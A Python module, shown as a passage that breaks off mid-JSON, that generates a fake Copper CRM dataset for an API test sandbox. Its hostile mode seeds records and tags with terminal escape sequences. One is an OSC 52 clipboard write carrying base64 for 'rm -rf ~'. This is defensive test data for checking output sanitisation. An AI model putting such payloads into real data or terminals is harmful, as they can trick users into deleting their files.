"""Deterministic Copper CRM dataset for the patina API sandbox.

Python 3.11 standard library only.  ``tests/sandbox/copper_sandbox.py`` imports
this module and serves the data it builds; the JSON shapes follow the Copper
API reference in ``/work/shared/copper-api`` (the contract).

Interface
=========

``ENTITIES``
    ``("people", "companies", "leads", "opportunities", "projects", "tasks")``
``DEFAULT_TOKEN``
    ``"sandbox-token"`` -- the API token the sandbox accepts.
``build(seed=1, records=None, hostile=False) -> Dataset``
    * ``seed``: same seed gives identical data, different seeds differ.
    * ``records=None``: realistic default size (about 1,500 people, 400
      companies, 600 leads, 900 opportunities, 80 projects, 1,200 tasks and
      3,000 activities, plus the reference examples).
    * ``records=N``: every one of the six entities has at least N records
      (N generated plus the reference examples); activities: max(N, 100).
    * ``hostile=True``: a share of records, some look-up names, user names,
      tag names and the account name carry hostile content (terminal escape
      sequences, C0/C1 controls, CJK, emoji, combining marks, RTL text, a
      100 KB ``details``, nulls in every nullable field, values of unexpected
      types).  Record ids always stay ints.  The non-hostile build has none.

``Dataset`` attributes (everything is plain JSON-able Python data)
    ``account``                  GET /account
    ``me``                       GET /users/me (id/name/email/groups); email
                                 is ``demo@patina.example``; also in ``users``
    ``users``                    POST /users/search items ``{"id","name","email"}``
    ``user_details``             id -> GET /users/{id} body (with ``groups``)
    ``contact_types``            GET /contact_types
    ``customer_sources``         GET /customer_sources
    ``lead_statuses``            GET /lead_statuses
    ``loss_reasons``             GET /loss_reasons
    ``pipelines``                GET /pipelines (stages in pipeline order)
    ``pipeline_stages``          GET /pipeline_stages (each with ``pipeline_id``)
    ``custom_field_definitions`` GET /custom_field_definitions
    ``tags``                     GET /tags (counts as built; see ``tag_counts()``)
    ``activity_types``           GET /activity_types ``{"user": [...], "system": [...]}``
    ``field_layouts``            entity -> GET /field_layouts/by_entity/{entity}
                                 (people, companies, leads, projects, tasks)
    ``opportunity_layouts``      pipeline_id -> opportunities layout for that pipeline
    ``records``                  entity -> {id: record}, records exactly as
                                 GET /{entity}/{id} returns them
    ``followed``                 entity -> sorted ids the API user follows (the
                                 ``followed`` search filter): records owned by
                                 ``me``, a sprinkle of others, and the records the
                                 reference's "Search by Followed" examples return
    ``activities``               id -> activity (generated ids are > 2**32; the
                                 reference's example 3064242278 is kept, < 2**32)
    ``seed``, ``hostile``        the build arguments
``Dataset`` methods
    ``next_id(entity)``          fresh id for a created record of ``entity``
                                 (``"activities"`` too); thread-safe enough
                                 under the GIL (itertools.count).
    ``own(entity, id)``          make a record's nested containers private (deep
                                 copy stored back into ``records``) and return it.
    ``tag_counts()``             recompute the GET /tags list from the records.
    ``person_by_email(email)``   id of the person with that email (case-insensitive)
                                 or None; index built lazily, refreshed on miss.

Helpers: ``close_date_to_ts("1/23/2017")`` (opportunity close dates are
``MM/DD/YYYY`` strings; the reference examples use the unpadded ``M/D/YYYY``
form, generated ones are zero padded), ``ts_to_close_date(ts)``,
``PARENT_TYPE`` / ``ENTITY_FOR_TYPE`` (entity <-> ``related_resource``/``parent``
type), ``RECORD_KEYS`` / ``REQUIRED_KEYS`` (key sets), ``LAYOUT_FIELD_MAP``
(layout ``field_key`` -> record key), ``SORT_FIELDS`` (sort_by -> record key),
``EXAMPLE_IDS`` / ``REFERENCE_CREATED_IDS`` / ``ADJUSTMENTS``, ``NOW``.

Notes for the server
====================

* Record shapes are the union of the keys the reference shows for the entity
  (``RECORD_KEYS``); reference examples are kept verbatim (ids, keys, values)
  except for the documented ``ADJUSTMENTS`` that make their references resolve,
  so a few examples lack the optional keys (as in the reference).  Treat every
  key as optional when reading (``rec.get``).
* Sharing: while an entity has at most ``POOL_SIZE`` (4096) records (the
  default size, the tests' sizes) every record is generated on its own and
  owns all its nested lists/dicts.  Beyond that, for speed and memory, record
  number k is derived from generated record k % POOL_SIZE: it gets its own
  top-level dict and fresh identifying fields (id, names, emails, company,
  dates...), but *shares* the other nested containers (custom_fields, address,
  phone_numbers, socials, tags, related_resource, parent...) with it.  So:
  never mutate a nested value in place -- assign a new list/dict to the key,
  or call ``ds.own(entity, id)`` first.  Top-level dicts are always private.
* Scale: build(records=120000) takes about 3-5 s and ~0.95 GB peak RSS on the
  2-core dev box; call ``gc.freeze()`` after building a big dataset so that
  the cyclic GC does not rescan millions of containers on every collection.
* ``records[entity]`` dict order is not meaningful (generated records, then
  the reference examples): sort explicitly.  ``SORT_FIELDS`` lists plausible
  sort_by values; null values occur in most of them.
* All dates are unix timestamps relative to the fixed epoch ``NOW``
  (2025-12-01T00:00:00Z) -- nothing depends on the wall clock.
* Converted leads carry ``converted_opportunity_id``/``converted_contact_id``/
  ``converted_at``; the API hides them from /leads/search unless
  ``include_converted_leads`` is true.
* With ``hostile=True`` values of unexpected types appear in sortable and
  filterable fields (e.g. a str ``monetary_value``, a dict ``tags``, a list
  ``address`` or ``related_resource``, a null ``name``, dangling references
  such as ``assignee_id`` 999999999 or ``related_resource`` type
  "spaceship"): sorting/filtering must not assume types.  Record ids stay
  ints, and an activity's ``parent`` and ``type`` stay well-formed.
"""

from __future__ import annotations

import base64
import copy
import datetime as _dt
import gc
import itertools
import json
import random

__all__ = [
    "ENTITIES", "DEFAULT_TOKEN", "Dataset", "build", "NOW", "PARENT_TYPE",
    "ENTITY_FOR_TYPE", "RECORD_KEYS", "REQUIRED_KEYS", "ACTIVITY_KEYS",
    "LAYOUT_FIELD_MAP", "SORT_FIELDS", "EXAMPLE_IDS", "REFERENCE_CREATED_IDS",
    "ADJUSTMENTS", "HOSTILE_KINDS", "close_date_to_ts", "ts_to_close_date", "shift_dates",
    "TIME_KEYS",
    "reference_examples",
]

ENTITIES = ("people", "companies", "leads", "opportunities", "projects", "tasks")
DEFAULT_TOKEN = "sandbox-token"

NOW = 1764547200            # 2025-12-01T00:00:00Z: the fixed "today"
DAY = 86400
TWO_YEARS = 730 * DAY
POOL_SIZE = 4096

PARENT_TYPE = {
    "people": "person", "companies": "company", "leads": "lead",
    "opportunities": "opportunity", "projects": "project", "tasks": "task",
}
ENTITY_FOR_TYPE = {v: k for k, v in PARENT_TYPE.items()}

DEFAULT_COUNTS = {"people": 1500, "companies": 400, "leads": 600,
                  "opportunities": 900, "projects": 80, "tasks": 1200}
DEFAULT_ACTIVITIES = 3000

# Generated ids start above every reference example id of the entity.
ID_BASE = {"people": 30_000_000, "companies": 15_000_000, "leads": 14_000_000,
           "opportunities": 5_000_000, "projects": 300_000, "tasks": 4_000_000}
ACTIVITY_ID_BASE = 5_000_000_000        # > 2**32 (4_294_967_296)

RECORD_KEYS = {
    "people": (
        "id", "name", "prefix", "first_name", "middle_name", "last_name",
        "suffix", "address", "assignee_id", "company_id", "company_name",
        "contact_type_id", "details", "emails", "phone_numbers", "socials",
        "tags", "title", "websites", "custom_fields", "date_created",
        "date_modified", "date_last_contacted", "interaction_count",
        "leads_converted_from", "date_lead_created"),
    "companies": (
        "id", "name", "address", "assignee_id", "contact_type_id", "details",
        "email_domain", "phone_numbers", "primary_contact_id", "socials",
        "tags", "websites", "custom_fields", "interaction_count",
        "date_created", "date_modified"),
    "leads": (
        "id", "name", "prefix", "first_name", "last_name", "middle_name",
        "suffix", "address", "assignee_id", "company_name",
        "customer_source_id", "details", "email", "interaction_count",
        "monetary_unit", "monetary_value", "socials", "status", "status_id",
        "tags", "title", "websites", "phone_numbers", "custom_fields",
        "date_created", "date_modified", "date_last_contacted",
        "converted_opportunity_id", "converted_contact_id", "converted_at"),
    "opportunities": (
        "id", "name", "assignee_id", "close_date", "company_id",
        "company_name", "customer_source_id", "details", "loss_reason_id",
        "pipeline_id", "pipeline_is_revenue", "pipeline_stage_id",
        "pipeline_type", "primary_contact_id", "priority", "status", "tags",
        "interaction_count", "monetary_unit", "monetary_value",
        "converted_unit", "converted_value", "win_probability",
        "date_stage_changed", "date_last_contacted", "leads_converted_from",
        "date_lead_created", "date_created", "date_modified",
        "custom_fields"),
    "projects": (
        "id", "name", "related_resource", "assignee_id", "status", "details",
        "tags", "custom_fields", "date_created", "date_modified"),
    "tasks": (
        "id", "name", "related_resource", "assignee_id", "due_date",
        "reminder_date", "completed_date", "priority", "status", "details",
        "tags", "custom_fields", "date_created", "date_modified",
        "custom_activity_type_id"),
}
# Keys the reference shows in some responses but not in the fetch-by-id one.
_OPTIONAL_KEYS = {
    "people": {"date_last_contacted", "leads_converted_from", "date_lead_created"},
    "companies": set(),
    "leads": {"interaction_count", "monetary_unit", "date_last_contacted",
              "converted_opportunity_id", "converted_contact_id", "converted_at"},
    "opportunities": {"monetary_unit", "converted_unit", "converted_value",
                      "date_stage_changed", "date_last_contacted",
                      "leads_converted_from", "date_lead_created"},
    "projects": set(),
    "tasks": {"custom_activity_type_id"},
}
# Keys of the GET /{entity}/{id} example: present on every record.
REQUIRED_KEYS = {e: frozenset(k for k in keys if k not in _OPTIONAL_KEYS[e])
                 for e, keys in RECORD_KEYS.items()}
ACTIVITY_KEYS = ("id", "parent", "type", "user_id", "details", "activity_date",
                 "old_value", "new_value", "date_created", "date_modified")

# Field-layout field_key -> record key (None: no record key).  cf_<id> keys
# map to the custom_fields entry with custom_field_definition_id == <id>.
LAYOUT_FIELD_MAP = {
    "full_name": "name", "name": "name", "primary_organization": "company_id",
    "title": "title", "contact_group_id": "contact_type_id",
    "assignee": "assignee_id", "emails": "emails", "email": "email",
    "phones": "phone_numbers", "websites": "websites", "socials": "socials",
    "address": "address", "visibility": None, "details": "details",
    "tags": "tags", "email_domain": "email_domain",
    "primary_contact": "primary_contact_id", "company_name": "company_name",
    "status": "status", "customer_source_id": "customer_source_id",
    "monetary_value": "monetary_value", "created_date": "date_created",
    "pipeline_id": "pipeline_id", "related_contact": "primary_contact_id",
    "deal_date": "close_date", "related_organization": "company_id",
    "stage_id": "pipeline_stage_id", "priority": "priority",
    "win_probability": "win_probability", "loss_reason_id": "loss_reason_id",
    "related_resource": "related_resource", "due_date": "due_date",
    "reminder_date": "reminder_date", "completed_date": "completed_date",
    "activity_type": "custom_activity_type_id",
}

# Plausible POST /{entity}/search sort_by values -> record key ("address.city"
# is a nested key; close_date must be parsed with close_date_to_ts).
SORT_FIELDS = {
    "people": {"name": "name", "first_name": "first_name", "last_name": "last_name",
               "title": "title", "company_name": "company_name",
               "assignee": "assignee_id", "contact_type": "contact_type_id",
               "city": "address.city", "state": "address.state",
               "postal_code": "address.postal_code", "country": "address.country",
               "date_created": "date_created", "date_modified": "date_modified",
               "interaction_count": "interaction_count",
               "last_interaction": "date_last_contacted"},
    "companies": {"name": "name", "assignee": "assignee_id",
                  "contact_type": "contact_type_id", "email_domain": "email_domain",
                  "city": "address.city", "state": "address.state",
                  "postal_code": "address.postal_code", "country": "address.country",
                  "date_created": "date_created", "date_modified": "date_modified",
                  "interaction_count": "interaction_count"},
    "leads": {"name": "name", "first_name": "first_name", "last_name": "last_name",
              "title": "title", "company_name": "company_name", "status": "status",
              "assignee": "assignee_id", "customer_source": "customer_source_id",
              "monetary_value": "monetary_value", "city": "address.city",
              "state": "address.state", "postal_code": "address.postal_code",
              "country": "address.country", "date_created": "date_created",
              "date_modified": "date_modified",
              "interaction_count": "interaction_count",
              "last_interaction": "date_last_contacted"},
    "opportunities": {"name": "name", "assignee": "assignee_id",
                      "company_name": "company_name", "close_date": "close_date",
                      "customer_source": "customer_source_id",
                      "monetary_value": "monetary_value",
                      "pipeline": "pipeline_id", "stage": "pipeline_stage_id",
                      "priority": "priority", "status": "status",
                      "win_probability": "win_probability",
                      "date_created": "date_created", "date_modified": "date_modified",
                      "date_stage_changed": "date_stage_changed",
                      "interaction_count": "interaction_count",
                      "last_interaction": "date_last_contacted"},
    "projects": {"name": "name", "assignee": "assignee_id", "status": "status",
                 "date_created": "date_created", "date_modified": "date_modified"},
    "tasks": {"name": "name", "assignee": "assignee_id", "due_date": "due_date",
              "reminder_date": "reminder_date", "completed_date": "completed_date",
              "priority": "priority", "status": "status",
              "date_created": "date_created", "date_modified": "date_modified"},
}

HOSTILE_KINDS = (
    "osc_title", "csi_clear", "osc52_clipboard", "sgr_color", "osc8_hyperlink",
    "terminal_query", "c0_controls", "c1_controls", "cjk", "emoji", "zwj_emoji",
    "combining", "rtl", "huge_details", "all_null", "number_for_string",
    "string_for_number", "object_for_list", "list_for_object",
)


def ts_to_close_date(ts):
    """Unix timestamp -> "MM/DD/YYYY" (UTC)."""
    d = _dt.datetime.fromtimestamp(ts, _dt.timezone.utc)
    return "%02d/%02d/%04d" % (d.month, d.day, d.year)


#: Record and activity keys holding Unix times (shift_dates moves them).
TIME_KEYS = ("date_created", "date_modified", "date_last_contacted", "date_lead_created",
             "date_stage_changed", "due_date", "reminder_date", "completed_date", "converted_at",
             "activity_date")


def shift_dates(ds, delta):
    """Moves every date of the dataset by ``delta`` seconds (a whole number
    of days keeps weekdays apart): the records' and activities' times
    (``TIME_KEYS``), opportunities' ``close_date`` strings and Date custom
    fields, so that ``NOW`` becomes ``NOW + delta``.  Nested values are
    replaced, never changed in place (they may be shared, see Sharing)."""
    date_fields = {d["id"] for d in ds.custom_field_definitions if d.get("data_type") == "Date"}

    def moved(v):
        return v + delta if isinstance(v, (int, float)) and not isinstance(v, bool) else v

    def shift(rec):
        for key in TIME_KEYS:
            if key in rec:
                rec[key] = moved(rec[key])
        if isinstance(rec.get("close_date"), str):
            ts = close_date_to_ts(rec["close_date"])
            if ts is not None:
                rec["close_date"] = ts_to_close_date(ts + delta)
        cfs = rec.get("custom_fields")
        if isinstance(cfs, list) and any(isinstance(c, dict) and c.get("custom_field_definition_id")
                                         in date_fields for c in cfs):
            rec["custom_fields"] = [dict(c, value=moved(c.get("value")))
                                    if isinstance(c, dict) and c.get("custom_field_definition_id")
                                    in date_fields else c for c in cfs]

    for entity in ENTITIES:
        for rec in ds.records[entity].values():
            shift(rec)
    for act in ds.activities.values():
        shift(act)


def close_date_to_ts(value):
    """"MM/DD/YYYY" or "M/D/YYYY" -> unix timestamp of that day (UTC) or None."""
    if not isinstance(value, str):
        return None
    try:
        m, d, y = (int(x) for x in value.split("/"))
        return int(_dt.datetime(y, m, d, tzinfo=_dt.timezone.utc).timestamp())
    except (ValueError, TypeError):
        return None


# --------------------------------------------------------------------------
# Look-ups.  Ids of the reference's own look-ups are kept.
# --------------------------------------------------------------------------

ME_ID = 159258
JOHN_DOE_ID = 137658
TEAMS = {1: "Sales", 2: "Account Management", 3: "Partnerships", 4: "Customer Success"}
_USERS = (  # id, name, email, team ids
    (ME_ID, "Demo User", "demo@patina.example", (1,)),
    (JOHN_DOE_ID, "John Doe", "johndoe@copper.com", (1, 2)),
    (1105608, "Priya Raman", "priya.raman@patina.example", (1,)),
    (1145608, "Marcus Oyelaran", "marcus.oyelaran@patina.example", (1,)),
    (1151720, "Sof\u00eda Hern\u00e1ndez", "sofia.hernandez@patina.example", (2,)),
    (1151721, "Kenji Watanabe", "kenji.watanabe@patina.example", (3,)),
    (1151722, "Aisha Bello", "aisha.bello@patina.example", (2, 4)),
    (1151723, "Liam O'Connor", "liam.oconnor@patina.example", (1,)),
    (1151724, "Chlo\u00e9 Martin", "chloe.martin@patina.example", (3,)),
    (1151725, "Dmitri Volkov", "dmitri.volkov@patina.example", (4,)),
    (1151726, "Grace Kim", "grace.kim@patina.example", (2,)),
    (1151727, "Tom\u00e1s Silva", "tomas.silva@patina.example", (1, 3)),
)
_HOSTILE_USERS = (
    (1151790, "\x1b]0;pwned\x07Mallory \x1b[31mAdmin\x1b[0m", "mallory@patina.example", (1,)),
    (1151791, "\u674e\u5c0f\u9f8d \U0001F409", "li.xiaolong@patina.example", (2,)),
    (1151792, "\u05e2\u05d3\u05d9 \u05db\u05d4\u05df", "adi.cohen@patina.example", (3,)),
)

CONTACT_TYPES = ((451490, "Potential Customer"), (451491, "Current Customer"),
                 (451492, "Uncategorized"), (451493, "Other"),
                 (451494, "Partner"), (451495, "Vendor"))
CUSTOMER_SOURCES = ((331240, "Email"), (331241, "Cold Call"), (331242, "Advertising"),
                    (331243, "Website"), (331244, "Referral"), (331245, "Trade Show"),
                    (331246, "Partner"), (331247, "LinkedIn"), (331248, "Webinar"))
LEAD_STATUSES = ((208231, "New", 1, True), (208232, "Open", 2, False),
                 (208233, "Unqualified", 3, False), (208234, "Junk", 4, False))
LOSS_REASONS = ((402001, "Price"), (402002, "Lost to competitor"), (402003, "No budget"),
                (402004, "Timing"), (402005, "Went dark"), (402006, "Missing feature"),
                (402007, "Chose in-house solution"))

# (id, name, is_revenue, stages((id, name, win_probability), ...)).
PIPELINES = (
    (213214, "Sales", False, ((987790, "Qualified", 5), (987791, "Follow-up", 10),
                              (987792, "Presentation", 20), (987793, "Contract Sent", 40),
                              (987794, "Negotiation", 80))),
    (213215, "Business Development", True, ((987795, "First Meeting", 10),
                                            (987796, "Partner Meeting", 25),
                                            (987797, "Negotiation", 50),
                                            (987798, "Term Sheet", 75))),
    (213216, "Renewals", True, ((987799, "Renewal Identified", 30),
                                (987800, "Usage Review", 45),
                                (987801, "Quote Sent", 60),
                                (987802, "Procurement", 75),
                                (987803, "Verbal Commit", 90),
                                (987804, "Signature Pending", 95))),
    (213217, "Partnerships", False, ((987805, "Intro Call", 5),
                                     (987806, "Discovery", 15),
                                     (987807, "Technical Fit", 30),
                                     (987808, "Business Case", 45),
                                     (987809, "Legal Review", 65),
                                     (987810, "Pilot", 80),
                                     (987811, "Launch Prep", 90))),
)
SALES_PIPELINE_ID = 213214
_HOSTILE_PIPELINE = (213299, "\x1b]0;pwned\x07 \u7ba1\u9053 \U0001F680", False,
                     ((987899, "\x1b[2J\x1b[HStage\u0301\u0301 zero", 10),
                      (987898, "\u05e9\u05dc\u05d1 \u05e9\u05e0\u05d9", 50),
                      (987897, "\U0001F468\u200d\U0001F469\u200d\U0001F467 done", 90)))

NOTE_TYPE_ID, CALL_TYPE_ID, MEETING_TYPE_ID = 0, 190711, 190712
EMAIL_TYPE_ID, TODO_TYPE_ID, DEMO_TYPE_ID, LUNCH_TYPE_ID = 190713, 190714, 190715, 190716
PROPERTY_CHANGED_TYPE_ID, STAGE_CHANGED_TYPE_ID = 1, 3
_USER_ACTIVITY_TYPES = (  # id, name, is_disabled, count_as_interaction
    (NOTE_TYPE_ID, "Note", False, False),
    (CALL_TYPE_ID, "Phone Call", False, True),
    (MEETING_TYPE_ID, "Meeting", False, True),
    (EMAIL_TYPE_ID, "Email", False, True),
    (TODO_TYPE_ID, "To Do", False, False),
    (DEMO_TYPE_ID, "Product Demo", False, True),
    (LUNCH_TYPE_ID, "Lunch", True, True),
)
_SYSTEM_ACTIVITY_TYPES = ((PROPERTY_CHANGED_TYPE_ID, "Property Changed"),
                          (STAGE_CHANGED_TYPE_ID, "Pipeline Stage Changed"))
# Opportunity status ids as used by status_ids in /opportunities/search.
OPPORTUNITY_STATUS_IDS = {"Open": 0, "Won": 1, "Lost": 2, "Abandoned": 3}

_ALL = ["lead", "person", "opportunity", "company", "project", "task"]
# (id, name, data_type, available_on, is_filterable, extra)
CUSTOM_FIELDS = (
    (3, "Industry", "Dropdown", _ALL, True, {"options": (
        (167801, "Software"), (167802, "Manufacturing"), (167803, "Healthcare"),
        (167804, "Financial Services"), (167805, "Education"), (167806, "Retail"),
        (167807, "Logistics"), (167808, "Media"), (167809, "Government"),
        (167810, "Non-profit"))}),
    (4, "External ID", "String", _ALL, False, {}),
    (5, "Quantity", "Float", _ALL, True, {}),
    (6, "Contract Start", "Date", _ALL, True, {}),
    (7, "Key Account", "Checkbox", _ALL, True, {}),
    (8, "Shared Folder", "URL", _ALL, False, {}),
    (9, "Discount", "Percentage", _ALL, True, {}),
    (10, "Annual Budget", "Currency", _ALL, True, {"currency": "USD"}),
    (11, "Internal Notes", "Text", _ALL, False, {}),
    (12, "Products of Interest", "MultiSelect", _ALL, True, {"options": (
        (8, "Analytics"), (9, "Integrations"), (13, "Mobile App"), (14, "API Access"),
        (15, "Premium Support"), (16, "Training"))}),
    (100764, "Short Note", "String", ["company", "opportunity", "lead", "person"], True, {}),
    (103481, "Background", "Text", ["lead", "company", "opportunity", "person"], False, {}),
    (126240, "Deal Type", "Dropdown", ["opportunity", "project"], True, {"options": (
        (167772, "New Business"), (167773, "Expansion"), (167774, "Renewal"),
        (167775, "Cross-sell"), (167776, "Services"))}),
    (128735, "Lead Score", "Float", ["lead"], True, {}),
    (131201, "Partner Tier", "Dropdown", ["opportunity", "company"], True, {"options": (
        (167820, "Registered"), (167821, "Silver"), (167822, "Gold"),
        (167823, "Platinum"))}),
    (131202, "Renewal Date", "Date", ["opportunity", "company"], True, {}),
    (131203, "Competitors", "MultiSelect", ["opportunity", "lead"], True, {"options": (
        (167830, "Salesforce"), (167831, "HubSpot"), (167832, "Pipedrive"),
        (167833, "Zoho"), (167834, "Spreadsheet"), (167835, "None"))}),
    (131204, "Contract Value (EUR)", "Currency", ["opportunity"], False, {"currency": "EUR"}),
)
_HOSTILE_CUSTOM_FIELD = (
    131299, "\x1b[31mRisk\x1b[0m \u98ce\u9669 \u0645\u062e\u0627\u0637\u0631", "Dropdown",
    _ALL, True, {"options": ((167899, "\x1b]0;pwned\x07High"),
                             (167898, "\U0001F525\U0001F525\U0001F525"),
                             (167897, "Lo\u0301\u0301\u0301w"))})

TAGS = ("tag1", "tag 1", "tag 2", "sample", "blah", "special", "vip", "enterprise",
        "smb", "mid-market", "churn-risk", "upsell", "renewal", "partner",
        "newsletter", "event-2024", "webinar", "referral", "hot", "cold",
        "q1-target", "q4-target", "decision-maker", "champion", "procurement",
        "legal-review", "EMEA", "APAC", "NA", "LATAM", "healthcare", "fintech",
        "education", "public-sector", "beta-tester")
_HOSTILE_TAGS = ("\x1b[5mURGENT\x1b[0m", "\U0001F525hot\U0001F525", "\u05d8\u05d9\u05e4\u05d5\u05dc",
                 "tag\x00nul", "\U0001F468\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466",
                 "\u91cd\u8981", "\x1b]52;c;cm0gLXJmIH4=\x07")

# --------------------------------------------------------------------------
# The reference's own example records (verbatim copies of the JSON in
# /work/shared/copper-api; fetch-by-id examples first).  Checked against the
# reference by tests/sandbox/test_dataset.py when the reference is present.
# --------------------------------------------------------------------------

_REFERENCE_EXAMPLES_JSON = r'''[
    ["people", {"id": 27140442, "name": "My Contact", "prefix": null, "first_name": "My", "middle_name": null, "last_name": "Contact", "suffix": null, "address": null, "assignee_id": null, "company_id": null, "company_name": null, "contact_type_id": 451492, "details": null, "emails": [{"email": "mycontact_123@noemail.com", "category": "work"}], "phone_numbers": [{"number": "415-123-45678", "category": "mobile"}], "socials": [], "tags": [], "title": null, "websites": [], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "date_created": 1490045413, "date_modified": 1490045413, "interaction_count": 0}],
    ["people", {"id": 27140359, "name": "My Contact", "prefix": null, "first_name": "My", "middle_name": null, "last_name": "Contact", "suffix": null, "address": null, "assignee_id": null, "company_id": 13349319, "company_name": "Noemail", "contact_type_id": 451492, "details": null, "emails": [{"email": "mylead@noemail.com", "category": "work"}], "phone_numbers": [], "socials": [], "tags": [], "title": null, "websites": [], "custom_fields": [{"custom_field_definition_id": 100764, "value": "Text fields are 255 chars or less!"}, {"custom_field_definition_id": 103481, "value": "Text area fields can have long text content"}], "date_created": 1490045010, "date_modified": 1496694264, "interaction_count": 0}],
    ["people", {"id": 26443553, "name": "Person Default", "prefix": null, "first_name": "Person", "middle_name": null, "last_name": "Default", "suffix": null, "address": {"street": "", "city": "", "state": "", "postal_code": "", "country": ""}, "assignee_id": 137658, "company_id": null, "company_name": null, "contact_type_id": 451490, "details": "This is an update", "emails": [], "phone_numbers": [], "socials": [], "tags": [], "title": null, "websites": [], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "date_created": 1489018908, "date_modified": 1496699863, "interaction_count": 0}],
    ["people", {"id": 3, "name": "Jon Lee", "prefix": null, "first_name": "Jon", "middle_name": null, "last_name": "Lee", "suffix": null, "address": {"street": "221 Main Street Suite 1350", "city": "San Francisco", "state": "CA", "postal_code": "94105", "country": ""}, "assignee_id": null, "company_id": 2, "company_name": "ProsperWorks", "contact_type_id": 8, "details": null, "emails": [{"email": "jonlee@prosperworks.com", "category": "work"}], "phone_numbers": [{"number": "4153554776", "category": "work"}], "socials": [{"url": "https://www.linkedin.com/in/jonlee168", "category": "linkedin"}], "tags": [], "title": "CEO", "websites": [{"url": "www.prosperworks.com", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}], "date_created": 1515434862, "date_modified": 1515434877, "date_last_contacted": null, "interaction_count": 0, "leads_converted_from": [], "date_lead_created": null}],
    ["people", {"id": 4, "name": "Jack James", "prefix": null, "first_name": "Jack", "middle_name": null, "last_name": "James", "suffix": null, "address": {"street": "221 Main Street Suite 1350", "city": "San Francisco", "state": "CA", "postal_code": "94105", "country": ""}, "assignee_id": 2, "company_id": 2, "company_name": "ProsperWorks", "contact_type_id": 5, "details": "This is an update", "emails": [{"email": "jackjames@prosperworks.com", "category": "work"}], "phone_numbers": [{"number": "4153554776", "category": "work"}], "socials": [{"url": "www.linkedin.com/pub/jack-james/54/172/b47", "category": "linkedin"}], "tags": [], "title": "Customer Support", "websites": [{"url": "www.prosperworks.com", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}], "date_created": 1515434863, "date_modified": 1516308658, "date_last_contacted": null, "interaction_count": 0, "leads_converted_from": [], "date_lead_created": null}],
    ["people", {"id": 5, "name": "Michael Scott, (sample)", "prefix": null, "first_name": "Michael", "middle_name": null, "last_name": "Scott", "suffix": "(sample)", "address": {"street": "213 West Main Street", "city": "Scranton", "state": "PA", "postal_code": "18501", "country": ""}, "assignee_id": null, "company_id": 3, "company_name": "Dunder Mifflin (sample)", "contact_type_id": 5, "details": null, "emails": [{"email": "michael@dundermifflin.com", "category": "work"}], "phone_numbers": [{"number": "4152225466", "category": "work"}], "socials": [], "tags": [], "title": "Regional Manager", "websites": [{"url": "http://www.dundermifflin.com/index.shtml", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}], "date_created": 1515434864, "date_modified": 1516310945, "date_last_contacted": null, "interaction_count": 0, "leads_converted_from": [], "date_lead_created": null}],
    ["people", {"id": 6, "name": "Jo Bennett, (sample)", "prefix": null, "first_name": "Jo", "middle_name": null, "last_name": "Bennett", "suffix": "(sample)", "address": {"street": "543 Washington Ave", "city": "Philadelphia", "state": "PA", "postal_code": "19135", "country": ""}, "assignee_id": null, "company_id": 4, "company_name": "Sabre Inc (sample)", "contact_type_id": 5, "details": null, "emails": [{"email": "jo@sabreinc.com", "category": "work"}], "phone_numbers": [], "socials": [], "tags": [], "title": "CEO", "websites": [], "custom_fields": [{"custom_field_definition_id": 8, "value": null}], "date_created": 1515434865, "date_modified": 1515525462, "date_last_contacted": null, "interaction_count": 0, "leads_converted_from": [], "date_lead_created": null}],
    ["people", {"id": 7, "name": "Jim Halpert", "prefix": null, "first_name": "Jim", "middle_name": null, "last_name": "Halpert", "suffix": null, "address": {"street": "221 Main Street Suite 1350", "city": "Vancouver", "state": "BC", "postal_code": "A1A1A1", "country": "CA"}, "assignee_id": null, "company_id": 2, "company_name": "ProsperWorks", "contact_type_id": 8, "details": null, "emails": [{"email": "jhalpert@prosperworks.com", "category": "work"}], "phone_numbers": [{"number": "4158546956", "category": "work"}], "socials": [{"url": "https://www.linkedin.com/in/jimhalpert", "category": "linkedin"}], "tags": ["tag1"], "title": "Business Development", "websites": [{"url": "www.prosperworks.com", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 6, "value": 1515744000}, {"custom_field_definition_id": 12, "value": [8]}], "date_created": 1516262400, "date_modified": 1516313340, "date_last_contacted": 1516313330, "interaction_count": 2, "leads_converted_from": [], "date_lead_created": null}],
    ["companies", {"id": 9607580, "name": "Dunder Mifflin (sample)", "address": {"street": "213 West Main Street", "city": "Scranton", "state": "PA", "postal_code": "18501", "country": ""}, "assignee_id": null, "contact_type_id": null, "details": "Keywords: Dunder Mifflin, Dunder Mifflin Infinity, Dunder Mifflin Paper, Dunder Mifflin Scranton, Dunder-mifflin, Dunder-mifflin Paper, Dunder-mifflin Scranton, Dundermifflin, NBC, NBC.com, Office 360, Ryan Howard, Scranton Office Supplies, The Office 360, The Office Tv, The Office Tv Series, The Office Tv Show", "email_domain": "dundermifflin.com", "phone_numbers": [{"number": "4153554776", "category": "work"}], "primary_contact_id": 27140359, "socials": [], "tags": [], "websites": [{"url": "http://www.dundermifflin.com/index.shtml", "category": "work"}, {"url": "https://www.nbcstore.com/shop-by-show/the-office.html?shop_by_theme=7", "category": "work"}, {"url": "http://dundermifflin.com", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "interaction_count": 0, "date_created": 1483988828, "date_modified": 1489018922}],
